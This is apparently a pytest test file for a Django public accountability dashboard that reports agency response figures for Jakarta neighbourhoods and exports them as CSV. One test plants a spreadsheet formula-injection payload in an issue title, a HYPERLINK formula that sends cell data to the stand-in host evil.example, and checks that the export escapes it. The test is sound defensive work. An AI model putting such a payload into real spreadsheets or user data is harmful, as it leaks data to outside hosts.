"""The public accountability dashboard: figures on a crafted data set, CSV, bounded queries."""

import csv
import datetime as dt
import io
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.db import connection, transaction
from django.test.utils import CaptureQueriesContext

from responses import accountability, actions
from responses.actions import CommitmentDraft
from tests.responses.conftest import respond

T0 = dt.datetime(2026, 3, 2, 9, 0, tzinfo=ZoneInfo("Asia/Jakarta"))
NOW = T0 + dt.timedelta(days=20)


def at(days):
    return time_machine.travel(T0 + dt.timedelta(days=days), tick=False)


def clocked(issue, days=0):
    with at(days), transaction.atomic():
        actions.start_clock(issue=issue, trigger="threshold")
    return issue


def judge(response, yes, no, people):
    for person in people[:yes]:
        actions.give_verdict(actor=person, response=response, answers=True)
    for person in people[yes : yes + no]:
        actions.give_verdict(actor=person, response=response, answers=False)


@pytest.fixture
def city(
    issue_factory,
    resident_of_manggarai,
    resident_of_bukit_duri,
    areas,
    official_of_water_agency,
    official_of_roads_agency,
    verified_residents,
):
    water, roads = official_of_water_agency, official_of_roads_agency
    manggarai, bukit_duri = areas["manggarai"], areas["bukit-duri"]

    def open_(author, area, category, title):
        with at(0):
            return issue_factory(author, area=area, category=category, title=title)

    a = clocked(open_(resident_of_manggarai, manggarai, "flooding", "A"))
    with at(2):
        answer_a = respond(
            water,
            a,
            status="resolved",
            body="Cleared.",
            commitment=CommitmentDraft(what="Clear", due_date=(T0 + dt.timedelta(days=10)).date()),
        )
    with at(5):
        actions.add_progress(actor=water, commitment=answer_a.commitment, note="Done.", done=True)
    judge(answer_a, 3, 1, verified_residents(4))

    b = clocked(open_(resident_of_bukit_duri, bukit_duri, "flooding", "B"))
    with at(6):
        answer_b = respond(water, b, status="declined", body="Not ours.", reason="National canal.")
    judge(answer_b, 0, 2, verified_residents(2, home="bukit-duri-rw-03"))

    clocked(open_(resident_of_manggarai, manggarai, "flooding", "C"))  # overdue by NOW
    clocked(open_(resident_of_bukit_duri, bukit_duri, "roads", "D"), days=15)  # awaiting, on time

    e = clocked(open_(resident_of_manggarai, manggarai, "roads", "E"))
    with at(1):
        respond(
            roads,
            e,
            status="in_progress",
            body="Patching.",
            commitment=CommitmentDraft(what="Patch", due_date=(T0 + dt.timedelta(days=12)).date()),
        )
    g = open_(resident_of_manggarai, manggarai, "roads", "G")
    with at(3):
        respond(
            roads,
            g,
            status="in_progress",
            body="Resurfacing.",
            commitment=CommitmentDraft(what="Resurface", due_date=(T0 + dt.timedelta(days=30)).date()),
        )
    return {"a": a, "b": b}


def row(rows, name):
    return next(r for r in rows if r.name == name)


def test_figures_per_agency(city):
    with time_machine.travel(NOW, tick=False):
        report = accountability.report()
    water, roads = row(report.agencies, "Dinas Sumber Daya Air"), row(report.agencies, "Dinas Bina Marga")
    assert (water.awaiting, water.overdue, water.median_days) == (1, 1, 4.0)
    assert (water.judged, water.answering, water.answering_share) == (2, 1, 0.5)
    assert (water.kept, water.late, water.open) == (1, 0, 0)
    assert (roads.awaiting, roads.overdue, roads.median_days) == (1, 0, 1.0)
    assert (roads.judged, roads.answering_share) == (0, None)
    assert (roads.kept, roads.late, roads.open) == (0, 1, 1)


def test_figures_per_area_roll_up_to_the_areas_above(city):
    with time_machine.travel(NOW, tick=False):
        report = accountability.report()
    names = [r.name for r in report.areas]
    assert names == ["Kota Jakarta Selatan", "Kecamatan Tebet", "Kelurahan Bukit Duri", "Kelurahan Manggarai"]
    manggarai, bukit_duri, tebet = (
        row(report.areas, n) for n in ("Kelurahan Manggarai", "Kelurahan Bukit Duri", "Kecamatan Tebet")
    )
    assert (manggarai.awaiting, manggarai.overdue, manggarai.median_days) == (1, 1, 1.5)  # delays 2 and 1 days
    assert (bukit_duri.awaiting, bukit_duri.overdue, bukit_duri.median_days) == (1, 0, 6.0)
    assert (tebet.awaiting, tebet.overdue, tebet.median_days, tebet.judged, tebet.answering) == (2, 1, 2.0, 2, 1)
    assert (tebet.kept, tebet.late, tebet.open) == (1, 1, 1)


def test_the_overdue_list_and_the_csv_say_the_same(city, client):
    with time_machine.travel(NOW, tick=False):
        page = client.get("/accountability/").content.decode()
        download = client.get("/accountability/accountability.csv")
        overdue_download = client.get("/accountability/overdue.csv")
    assert "overdue by 6 days" in page  # C: due 16 March, now 22 March
    assert download["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(download.content.decode())))
    # One table a file: one header, every row as wide as it (a spreadsheet reads it as one table).
    assert rows[0] == accountability.SUMMARY_HEADER
    assert all(len(r) == len(accountability.SUMMARY_HEADER) for r in rows)
    assert ["agency", "Dinas Sumber Daya Air", "1", "1", "4.0", "2", "0.50", "1", "0", "0"] in rows
    assert ["area", "Kecamatan Tebet", "2", "1", "2.0", "2", "0.50", "1", "1", "1"] in rows
    overdue = list(csv.reader(io.StringIO(overdue_download.content.decode())))
    assert overdue[0] == accountability.OVERDUE_HEADER
    assert [(r[1], r[3], r[4], r[5]) for r in overdue[1:]] == [("C", "Dinas SDA", "2026-03-16", "6")]


def test_the_dashboard_needs_the_same_queries_whatever_the_data_size(
    city, client, issue_factory, areas, resident_of_manggarai, official_of_water_agency
):
    def count():
        with time_machine.travel(NOW, tick=False), CaptureQueriesContext(connection) as queries:
            assert client.get("/accountability/").status_code == 200
            client.get("/accountability/accountability.csv")
            client.get("/accountability/overdue.csv")
        return len(queries)

    few = count()
    for i in range(8):
        issue = clocked(issue_factory(resident_of_manggarai, area=areas["manggarai-rw-04"], title=f"More {i}"))
        if i % 2:
            with at(3):
                respond(
                    official_of_water_agency,
                    issue,
                    status="in_progress",
                    body="On it.",
                    commitment=CommitmentDraft(what="Fix", due_date=(T0 + dt.timedelta(days=9)).date()),
                )
    assert count() == few


def test_the_csv_does_not_carry_formulas_from_titles_or_names(
    issue_factory, resident_of_manggarai, areas, client, water_agency, official_of_water_agency
):
    water_agency.name = "@Dinas SDA"
    water_agency.save(update_fields=["name"])
    issue = clocked(
        issue_factory(
            resident_of_manggarai,
            area=areas["manggarai"],
            category="flooding",
            title='=HYPERLINK("http://evil.example/?"&A1, "Banjir")',
        )
    )
    with time_machine.travel(NOW, tick=False):
        download = client.get("/accountability/accountability.csv")
        overdue_download = client.get("/accountability/overdue.csv")
    rows = list(csv.reader(io.StringIO(download.content.decode())))
    rows += list(csv.reader(io.StringIO(overdue_download.content.decode())))
    assert ["agency", "'@Dinas SDA", "1", "1", "", "0", "", "0", "0", "0"] in rows
    overdue = next(r for r in rows if r and r[0] == str(issue.pk))
    assert overdue[1] == "'" + issue.title
    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r)


def test_the_headline_counts_every_answer_once_and_the_page_shows_it(city, client):
    with time_machine.travel(NOW, tick=False):
        report = accountability.report()
        page = client.get("/accountability/").content.decode()
    total = report.total
    assert (total.awaiting, total.overdue, total.median_days) == (2, 1, 2.0)  # as Tebet, which holds every issue
    assert (total.judged, total.answering, total.kept, total.late, total.open) == (2, 1, 1, 1, 1)
    assert '<span class="figure-value">2</span><span class="figure-label">answers awaited</span>' in page
    assert (
        '<span class="figure-value">50%</span><span class="figure-label">of judged responses found answering</span>'
        in page
    )
